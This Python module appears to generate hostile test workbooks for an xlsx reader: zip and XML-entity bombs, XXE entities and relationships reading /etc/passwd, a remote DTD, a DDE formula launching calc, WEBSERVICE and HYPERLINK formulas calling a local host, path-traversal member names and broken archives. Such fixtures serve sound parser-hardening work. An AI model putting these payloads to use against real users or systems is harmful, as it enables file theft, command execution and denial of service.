"""Workbooks made to harm whoever opens them: bombs, lies, traps, disguises."""

import io
import random
import struct
import zipfile
from collections.abc import Iterator, Mapping

import openpyxl

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
HEAD = b'<?xml version="1.0" encoding="UTF-8"?>'
DTD = b'<!DOCTYPE a [<!ENTITY x "%s">]>'
LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    + b"]>"
)
MEGABYTE = 1_000_000


def plain_book() -> bytes:
    """An honest workbook of one sheet."""
    made = openpyxl.Workbook()
    for row in (["编号", "单位名称"], ["001", "市教育局"]):
        made.worksheets[0].append(row)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def with_members(
    members: Mapping[str, bytes], *, base: bytes | None = None, stored: bool = False
) -> bytes:
    """An honest workbook with these members added or exchanged."""
    out = io.BytesIO()
    kind = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with (
        zipfile.ZipFile(io.BytesIO(base or plain_book())) as old,
        zipfile.ZipFile(out, "w", kind) as new,
    ):
        for name in old.namelist():
            if name not in members:
                new.writestr(name, old.read(name))
        for name, content in members.items():
            new.writestr(name, content)
    return out.getvalue()


def sheet(rows: bytes, before: bytes = b"") -> bytes:
    """A worksheet of these rows, `before` in front of it."""
    return HEAD + before + b"<worksheet %s><sheetData>%s</sheetData></worksheet>" % (MAIN, rows)


def strings(*texts: bytes) -> bytes:
    return HEAD + b"<sst %s>%s</sst>" % (MAIN, b"".join(b"<si><t>%s</t></si>" % t for t in texts))


def rows(n: int, columns: int, cell: bytes) -> bytes:
    return (b"<row>" + cell * columns + b"</row>") * n


def bombs() -> Iterator[tuple[str, bytes]]:
    """Small to send, large to read."""
    yield "billion-laughs", with_members({SHEET: sheet(b"", LAUGHS).replace(b"</s", b"&m;</s")})
    yield "laughs-in-strings", with_members({STRINGS: HEAD + LAUGHS + b"<sst>&m;</sst>"})
    yield "ratio-1000", with_members({SHEET: sheet(b" " * 15 * MEGABYTE)})
    numbers = b"".join(b"<c><v>0.%d</v></c>" % (n * 7919 % 10_007) for n in range(20_000))
    yield "ratio-18-to-40-MB", with_members({SHEET: sheet(b"<row>" + numbers * 100 + b"</row>")})
    yield (
        "stuffed-ratio",
        with_members(
            {
                SHEET: sheet(rows(20_000, 60, b"<c><v>1</v></c>")),
                "docProps/noise.bin": random.Random(1).randbytes(400_000),
            }
        ),
    )
    yield "ten-thousand-members", with_members({f"xl/media/{n}": b"x" for n in range(10_000)})
    yield "nested-zip", with_members({"xl/media/a.zip": with_members({"b": bytes(MEGABYTE)})})
    yield (
        "one-text-a-million-times",
        with_members(
            {
                STRINGS: strings(random.Random(2).randbytes(16_000).hex().encode()),
                SHEET: sheet(rows(6_000, 50, b'<c t="s"><v>0</v></c>')),
                "docProps/noise.bin": random.Random(3).randbytes(400_000),
            }
        ),
    )
    noise = random.Random(4).randbytes(2 * MEGABYTE).hex().encode()
    yield "cell-of-4-MB", with_members({STRINGS: strings(noise), SHEET: _one_cell(b"0")})
    yield (
        "cells-without-places",
        with_members(
            {
                SHEET: sheet(b"<row>" + b"<c/>" * 4_500_000 + b"</row>"),
                "docProps/noise.bin": random.Random(5).randbytes(400_000),
            }
        ),
    )
    yield (
        "tags-never-closed",
        with_members(
            {
                SHEET: sheet(b"<c " * 6_000_000),
                "docProps/noise.bin": random.Random(6).randbytes(400_000),
            }
        ),
    )
    deep = b"<x>" * 300_000 + b"</x>" * 300_000
    yield "nested-tags", with_members({SHEET: sheet(deep)})
    honest = with_members({"xl/media/a.bin": bytes(40 * MEGABYTE)})
    size = struct.pack("<L", 40 * MEGABYTE)
    yield "sizes-that-lie", honest.replace(size, struct.pack("<L", 1_000))


def far_cells() -> Iterator[tuple[str, bytes]]:
    """A cell or a range far away, which a careless reader would allocate up to."""
    for place in ("A1048576", "XFD1", "A99999999"):
        yield f"cell-at-{place}", with_members({SHEET: sheet(_cell_at(place.encode()))})
    merged = sheet(_cell_at(b"A1")).replace(
        b"</worksheet>",
        b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>',
    )
    yield "merged-over-everything", with_members({SHEET: merged})
    claimed = sheet(_cell_at(b"A1")).replace(
        b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'
    )
    yield "dimension-of-everything", with_members({SHEET: claimed})
    yield "rows-that-skip", with_members({SHEET: sheet(b'<row r="1048576"><c><v>1</v></c></row>')})
    yield (
        "row-number-too-large",
        with_members({SHEET: sheet(b'<row r="%d"><c><v>1</v></c></row>' % 2**70)}),
    )
    long_letters = b"A" * 4_000
    yield "column-letters-without-end", with_members({SHEET: sheet(_cell_at(long_letters + b"1"))})


def links() -> Iterator[tuple[str, bytes]]:
    """What would fetch, run or read something else."""
    outside = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield "external-entity", with_members({SHEET: sheet(_one_text(b"&x;"), outside)})
    remote = b'<!DOCTYPE a SYSTEM "http://127.0.0.1:9/a.dtd">'
    yield "remote-dtd", with_members({"xl/styles.xml": HEAD + remote + b"<styleSheet/>"})
    wide = (HEAD + DTD % b"y").decode().replace("UTF-8", "UTF-16") + "<sst>&x;</sst>"
    yield "entity-in-utf-16", with_members({STRINGS: wide.encode("utf-16")})
    yield "macro", with_members({"xl/vbaProject.bin": b"\xcc\x61macro"})
    yield "excel-4-macro-sheet", with_members({"xl/macrosheets/sheet1.xml": HEAD + b"<x/>"})
    yield "external-link", with_members({"xl/externalLinks/externalLink1.xml": HEAD + b"<x/>"})
    for name, formula in {
        "hyperlink-formula": b'HYPERLINK("http://127.0.0.1:9/?"&amp;A1,"x")',
        "dde-formula": b"cmd|'/c calc'!A0",
        "webservice-formula": b'WEBSERVICE("http://127.0.0.1:9/")',
    }.items():
        cell = b'<row r="1"><c r="A1" t="str"><f>%s</f><v>shown</v></c></row>' % formula
        yield name, with_members({SHEET: sheet(cell)})
    relation = (
        HEAD + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId1" Type="http://x/hyperlink" '
        b'Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
    )
    yield "link-to-a-file", with_members({"xl/worksheets/_rels/sheet1.xml.rels": relation})
    aside = plain_book_member("xl/_rels/workbook.xml.rels").replace(
        b"/xl/worksheets/sheet1.xml", b"../../../../etc/passwd"
    )
    yield "sheet-in-etc-passwd", with_members({"xl/_rels/workbook.xml.rels": aside})


def names() -> Iterator[tuple[str, bytes]]:
    """Members whose names point out of the folder they might be unpacked into."""
    bad = ("../../evil.txt", "/tmp/evil.txt", "C:\\evil.txt", "xl/../../evil.txt", "a\x01b", "xl/")
    for place, name in enumerate(bad):
        yield f"member-name-{place}", with_members({name: b"evil"})
    linked = zipfile.ZipInfo("xl/link")
    linked.external_attr = 0o120777 << 16
    out = io.BytesIO(plain_book())
    with zipfile.ZipFile(out, "a") as book:
        book.writestr(linked, "/etc/passwd")
    yield "symbolic-link", out.getvalue()
    doubled = io.BytesIO(plain_book())
    with zipfile.ZipFile(doubled, "a") as book:
        book.writestr("xl/Worksheets/sheet1.xml", sheet(_one_text(b"the other")))
    yield "member-twice", doubled.getvalue()


def archives() -> Iterator[tuple[str, bytes]]:
    """Archives that are broken, or say of themselves what is not so."""
    honest = plain_book()
    for percent in (1, 50, 99):
        yield f"cut-at-{percent}-percent", honest[: len(honest) * percent // 100]
    yield "zip-head-only", b"PK\x03\x04"
    yield "zip-empty", b"PK\x05\x06" + bytes(18)
    directory = honest.rindex(b"PK\x05\x06")
    yield "directory-elsewhere", honest[: directory + 16] + b"\xff\xff\xff\x7f" + honest[-2:]
    counts = struct.pack("<HH", 0xFFFF, 0xFFFF)
    zip64 = honest[: directory + 8] + counts + honest[directory + 12 :]
    yield "zip64-lie", zip64
    yield "zip64-locator", honest[:directory] + b"PK\x06\x07" + b"\xff" * 16 + honest[directory:]
    flipped = bytearray(honest)
    for place in range(100, len(flipped) - 100, 97):
        flipped[place] ^= 0x55
    yield "bits-flipped", bytes(flipped)
    entry = honest.index(b"PK\x01\x02")
    yield "encrypted-member", honest[: entry + 8] + b"\x01\x00" + honest[entry + 10 :]
    yield "unknown-packing", honest[: entry + 10] + b"\x63\x00" + honest[entry + 12 :]
    yield "bytes-in-front", b"MZ" + bytes(500) + honest
    yield "sheet-is-no-xml", with_members({SHEET: b"\x00\xff" * 5_000})
    yield "workbook-is-no-xml", with_members({"xl/workbook.xml": b"<oops"})
    yield "strings-out-of-range", with_members({SHEET: _one_cell(b"999999999")})


def plain_book_member(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(plain_book())) as book:
        return book.read(name)


def _cell_at(place: bytes) -> bytes:
    return b'<row r="1"><c r="%s"><v>1</v></c></row>' % place


def _one_text(text: bytes) -> bytes:
    return b'<row r="1"><c r="A1" t="inlineStr"><is><t>%s</t></is></c></row>' % text


def _one_cell(string: bytes) -> bytes:
    return sheet(b'<row r="1"><c r="A1" t="s"><v>%s</v></c></row>' % string)
